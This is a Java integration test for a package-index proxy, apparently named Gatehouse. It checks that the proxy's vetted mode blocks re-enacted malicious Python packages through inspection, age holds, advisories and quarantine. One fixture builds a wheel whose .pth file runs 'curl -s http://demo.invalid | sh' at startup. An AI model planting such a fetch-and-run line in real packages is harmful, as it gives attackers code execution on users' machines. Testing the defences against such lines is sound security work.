package dev.gatehouse.index;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.samples.Drip;
import dev.gatehouse.samples.FakeIndex;
import dev.gatehouse.samples.Gate;
import dev.gatehouse.samples.SampleArtifact;
import dev.gatehouse.samples.WheelBuilder;
import dev.gatehouse.samples.incident.Reenactment;
import dev.gatehouse.samples.incident.Reenactments;
import dev.gatehouse.vetting.evidence.AdvisorySettings;
import dev.gatehouse.vetting.policy.Mode;
import dev.gatehouse.vetting.policy.Policy;
import dev.gatehouse.vetting.policy.VettingRules;
import java.net.Socket;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** The mode {@code vetted}, each of its layers alone, over re-enacted attacks. */
class VettedIT {
  private static final AdvisorySettings NOTHING_KNOWN =
      new AdvisorySettings(null, Duration.ofHours(1), false);
  private static final SampleArtifact GOOD = WheelBuilder.wheel("demo", "1.0").build();

  /** The age does not matter, and no advisory knows anything. */
  private static final Policy INSPECTION_ALONE = vetted(Duration.ZERO, true);

  private static final Policy AGE_ALONE = vetted(Duration.ofDays(7), false);
  private static final Policy ADVISORIES_ALONE = vetted(Duration.ZERO, false);

  @TempDir private Path data;
  private final FakeIndex upstream = FakeIndex.start();
  private @Nullable RunningIndex running;

  @AfterEach
  void stop() {
    if (running != null) {
      running.close();
    }
    upstream.close();
  }

  private static Policy vetted(Duration minimumAge, boolean inspect) {
    return new Policy(
        Mode.VETTED,
        List.of(),
        List.of(),
        List.of(),
        new VettingRules(minimumAge, List.of(), null, 2, inspect, null, Duration.ofDays(3)));
  }

  private RunningIndex index(Policy policy, AdvisorySettings advisories) {
    RunningIndex started =
        RunningIndex.in(data)
            .upstream(upstream.uri())
            .policy(policy)
            .advisories(advisories)
            .start();
    running = started;
    return started;
  }

  private static Stream<SampleArtifact> attacks() {
    return Reenactments.all().stream()
        .filter(attack -> attack.toString().contains("litellm"))
        .flatMap(attack -> Stream.of(attack.wheel(), attack.sdist()));
  }

  private static String at(SampleArtifact artifact) {
    return "/files/" + artifact.project() + "/" + artifact.filename();
  }

  private static byte[] concat(byte[] one, byte[] other) {
    byte[] all = Arrays.copyOf(one, one.length + other.length);
    System.arraycopy(other, 0, all, one.length, other.length);
    return all;
  }

  private static String body(HttpResponse<byte[]> answer) {
    return new String(answer.body(), StandardCharsets.UTF_8);
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void inspectionAloneKeepsTheAttackOut(SampleArtifact attack) {
    upstream.publish(attack);
    RunningIndex index = index(INSPECTION_ALONE, NOTHING_KNOWN);

    HttpResponse<byte[]> first = index.get(at(attack));

    assertThat(first.statusCode()).isEqualTo(403);
    assertThat(body(first)).contains("\"code\":\"inspection\"").contains("(code-");
    assertThat(index.statusLine(at(attack)))
        .startsWith("HTTP/1.1 403 Gatehouse refuses " + attack.project());
    assertThat(index.get(at(attack), "Range", "bytes=0-9").statusCode()).isEqualTo(403);
    assertThat(index.text("/simple/" + attack.project() + "/"))
        .contains("data-yanked=\"Gatehouse: refuse: ");
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void ageAloneKeepsTheAttackOut(SampleArtifact attack) {
    upstream.publish(attack, offer -> offer.uploaded(RunningIndex.START.minusSeconds(780)));
    RunningIndex index = index(AGE_ALONE, NOTHING_KNOWN);

    HttpResponse<byte[]> answer = index.get(at(attack));

    assertThat(answer.statusCode()).isEqualTo(403);
    assertThat(body(answer)).contains("published 13 min ago; held until 2026-03-31 10:39 UTC");
    assertThat(upstream.requestsTo(FakeIndex.fileOf(attack))).isEmpty();
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void anAdvisoryAloneKeepsTheAttackOut(SampleArtifact attack) throws Exception {
    upstream.publish(attack);
    Path feed = data.resolveSibling(data.getFileName() + "-osv.json");
    Files.writeString(
        feed,
        """
        {"id": "MAL-2026-2144", "modified": "2026-03-24T10:50:00Z", "affected": [{"package":
          {"ecosystem": "PyPI", "name": "%s"}, "versions": ["1.82.7", "1.82.8"]}]}
        """
            .formatted(attack.project()));
    RunningIndex index =
        index(ADVISORIES_ALONE, new AdvisorySettings(feed.toString(), Duration.ofHours(1), false));

    HttpResponse<byte[]> answer = index.get(at(attack));

    assertThat(answer.statusCode()).isEqualTo(403);
    assertThat(body(answer)).contains("MAL-2026-2144 names it as malware");
    Files.delete(feed);
  }

  @Test
  void whatNothingSpeaksAgainstIsServedWholeAndInspectedOnce() {
    upstream.publish(GOOD);
    RunningIndex index = index(INSPECTION_ALONE, NOTHING_KNOWN);

    assertThat(index.text("/simple/demo/")).doesNotContain("data-yanked");
    assertThat(index.get(at(GOOD)).body()).isEqualTo(GOOD.bytes());
    assertThat(index.get(at(GOOD)).body()).isEqualTo(GOOD.bytes());
    assertThat(upstream.requestsTo(FakeIndex.fileOf(GOOD))).hasSize(1);
  }

  @Test
  void aPartOfAFileThatNobodyVettedWaitsForItsVerdict() {
    upstream.publish(GOOD);
    RunningIndex index = index(INSPECTION_ALONE, NOTHING_KNOWN);

    HttpResponse<byte[]> part = index.get(at(GOOD), "Range", "bytes=0-9");

    assertThat(part.statusCode()).isEqualTo(206);
    assertThat(part.body()).hasSize(10);
  }

  @Test
  void whatIsKeptFromATimeWithoutVettingIsVettedBeforeItLeavesAgain() {
    Reenactment attack =
        Reenactments.all().stream()
            .filter(one -> one.toString().contains("1.82.8"))
            .findFirst()
            .orElseThrow();
    upstream.publish(attack.wheel());
    RunningIndex index = index(Policy.observing(), NOTHING_KNOWN);
    assertThat(index.get(at(attack.wheel())).statusCode()).isEqualTo(200);

    index.apply(INSPECTION_ALONE);

    assertThat(index.get(at(attack.wheel())).statusCode()).isEqualTo(403);
  }

  @Test
  void aHoldByAgeEndsByItself() {
    upstream.publish(GOOD, offer -> offer.uploaded(RunningIndex.START.minusSeconds(60)));
    RunningIndex index = index(vetted(Duration.ofDays(7), true), NOTHING_KNOWN);
    assertThat(index.get(at(GOOD)).statusCode()).isEqualTo(403);
    assertThat(index.text("/simple/demo/")).contains("Gatehouse: hold: published 1 min ago");

    index.later(Duration.ofDays(7));

    assertThat(index.get(at(GOOD)).statusCode()).isEqualTo(200);
    assertThat(index.text("/simple/demo/")).doesNotContain("data-yanked");
  }

  @Test
  void whatItsUpstreamRemovedIsNotServedFromWhatIsKept() {
    upstream.publish(GOOD);
    RunningIndex index = index(INSPECTION_ALONE, NOTHING_KNOWN);
    assertThat(index.get(at(GOOD)).statusCode()).isEqualTo(200);

    upstream.unlist(GOOD);
    index.later(Duration.ofMinutes(11));

    HttpResponse<byte[]> answer = index.get(at(GOOD));
    assertThat(answer.statusCode()).isEqualTo(403);
    assertThat(body(answer)).contains("\"code\":\"upstream-removed\"");
  }

  @Test
  void aQuarantinedProjectIsHeld() {
    upstream.publish(GOOD);
    RunningIndex index = index(INSPECTION_ALONE, NOTHING_KNOWN);
    assertThat(index.get(at(GOOD)).statusCode()).isEqualTo(200);

    upstream.status("demo", "quarantined", "malware");
    index.later(Duration.ofMinutes(11));

    assertThat(body(index.get(at(GOOD))))
        .contains("its upstream has put the project under quarantine");
  }

  @Test
  void anInspectionOutlivesARestart() {
    upstream.publish(GOOD);
    RunningIndex index = index(INSPECTION_ALONE, NOTHING_KNOWN);
    index.get(at(GOOD));

    running = index.restarted();
    upstream.goesDown();

    assertThat(running.get(at(GOOD)).statusCode()).isEqualTo(200);
  }

  @Test
  void aFileWithoutAHashIsVettedToo() {
    SampleArtifact attack = attacks().findFirst().orElseThrow();
    upstream.publish(attack, offer -> offer.withoutHashes());
    RunningIndex index = index(INSPECTION_ALONE, NOTHING_KNOWN);

    assertThat(index.get(at(attack)).statusCode()).isEqualTo(403);
  }

  @Test
  void aFileOfTheFutureIsHeld() {
    upstream.publish(GOOD, offer -> offer.uploaded(Instant.parse("2036-01-01T00:00:00Z")));

    assertThat(index(AGE_ALONE, NOTHING_KNOWN).get(at(GOOD)).statusCode()).isEqualTo(403);
  }

  @Test
  void ofAProjectOnlyTheFileIsHeldThatIsYoung() {
    SampleArtifact later = WheelBuilder.wheel("demo", "2.0").build();
    upstream.publish(GOOD).publish(later, offer -> offer.uploaded(RunningIndex.START));
    RunningIndex index = index(AGE_ALONE, NOTHING_KNOWN);

    assertThat(index.get(at(GOOD)).statusCode()).isEqualTo(200);
    assertThat(index.get(at(later)).statusCode()).isEqualTo(403);
  }

  /** An attack that takes longer to arrive than a client is kept waiting. */
  @Test
  void aLargeAttackIsCutBeforeItsTailAndExplainedOnTheSecondTry() throws Exception {
    SampleArtifact attack =
        WheelBuilder.wheel("demo", "6.0")
            .file("demo_init.pth", "import os; os.system('curl -s http://demo.invalid | sh')\n")
            .padding(6_000_000)
            .build();
    upstream.publish(attack);
    Drip drip = upstream.on(FakeIndex.fileOf(attack)).drips();
    drip.give((int) attack.size() - 1);
    RunningIndex index = index(INSPECTION_ALONE, NOTHING_KNOWN);

    try (Socket client = new Socket(index.address().getHost(), index.address().getPort())) {
      client
          .getOutputStream()
          .write(
              ("GET " + at(attack) + " HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
                  .getBytes(StandardCharsets.US_ASCII));
      // The beginning comes although the upstream holds the last byte back.
      byte[] beginning = client.getInputStream().readNBytes(1_000_000);
      drip.giveAll();
      byte[] rest = client.getInputStream().readAllBytes();

      assertThat(new String(beginning, 0, 15, StandardCharsets.US_ASCII))
          .isEqualTo("HTTP/1.1 200 OK");
      assertThat((long) beginning.length + rest.length)
          .isGreaterThan(4_000_000)
          .isLessThan(attack.size() - 64 * 1024);
    }
    assertThat(index.statusLine(at(attack)))
        .startsWith("HTTP/1.1 403 Gatehouse refuses demo 6.0: demo_init.pth");
    assertThat(index.get(at(attack), "Range", "bytes=5000000-").statusCode()).isEqualTo(403);
  }

  @Test
  void aLargeCleanFileArrivesWhole() throws Exception {
    SampleArtifact large = WheelBuilder.wheel("demo", "6.1").padding(6_000_000).build();
    upstream.publish(large);
    Drip drip = upstream.on(FakeIndex.fileOf(large)).drips();
    drip.give((int) large.size() - 1);
    RunningIndex index = index(INSPECTION_ALONE, NOTHING_KNOWN);

    try (Socket client = new Socket(index.address().getHost(), index.address().getPort())) {
      client
          .getOutputStream()
          .write(
              ("GET " + at(large) + " HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
                  .getBytes(StandardCharsets.US_ASCII));
      byte[] beginning = client.getInputStream().readNBytes(1_000_000);
      drip.giveAll();
      byte[] answer = concat(beginning, client.getInputStream().readAllBytes());

      assertThat(Arrays.copyOfRange(answer, answer.length - (int) large.size(), answer.length))
          .isEqualTo(large.bytes());
    }
  }

  @Test
  void whatWasBegunWithoutVettingIsNotFollowedByWhoNeedsIt() throws Exception {
    SampleArtifact attack = attacks().findFirst().orElseThrow();
    upstream.publish(attack);
    Gate hold = upstream.on(FakeIndex.fileOf(attack)).times(1).pausesAfter(10);
    RunningIndex index = index(Policy.observing(), NOTHING_KNOWN);
    Thread before = Thread.ofVirtual().start(() -> index.get(at(attack)));
    hold.awaitReached();

    index.apply(INSPECTION_ALONE);
    HttpResponse<byte[]> after = index.get(at(attack));
    hold.release();
    before.join();

    assertThat(after.statusCode()).isEqualTo(403);
  }
}
